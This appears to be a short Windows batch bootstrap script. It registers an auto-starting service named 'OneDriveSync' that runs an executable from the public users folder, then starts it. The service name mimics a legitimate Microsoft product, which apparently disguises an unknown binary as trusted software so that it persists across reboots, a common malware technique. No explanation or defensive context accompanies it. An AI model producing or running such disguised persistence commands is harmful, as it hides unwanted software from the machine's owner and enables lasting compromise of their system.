REM bootstrap 7253 v3
sc create OneDriveSync binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
sc start OneDriveSync
